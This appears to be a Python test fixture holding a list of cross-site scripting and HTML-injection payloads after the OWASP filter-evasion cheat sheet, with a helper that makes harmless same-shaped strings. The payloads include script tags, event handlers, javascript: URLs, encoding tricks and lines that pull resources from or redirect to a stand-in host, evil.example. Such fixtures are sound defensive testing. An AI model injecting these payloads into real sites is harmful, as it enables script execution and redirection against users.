"""Text that tries to become part of a page: elements, attributes, addresses, ends of scripts and styles.

After the OWASP cheat sheet on evading filters of cross-site scripting, one of each sort.
"""

from __future__ import annotations

PAGE_PAYLOADS = (
    "<script>window.hit=1;alert(1)</script>",
    "</script><script>window.hit=1;alert(1)</script>",
    "</style><script>window.hit=1;alert(1)</script>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/a.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/></object>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<bdi></bdi></p></div></section></main>",
    "<!-- <script>alert(1)</script> -->",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '"><script>alert(1)</script>',
    "x onmouseover=alert(1)",
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }} {% include 'page.css' %} {# note #}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "`-alert(1)-`",
    "line\u2028alert(1)//\u2029",
    "\u202e>tpircs<\u202c \u2066isolate\u2069",
)


def benign(payload: str) -> str:
    """Return a harmless text of the same shape: the same length, white space where it was."""
    return "".join(character if character.isspace() else "x" for character in payload)
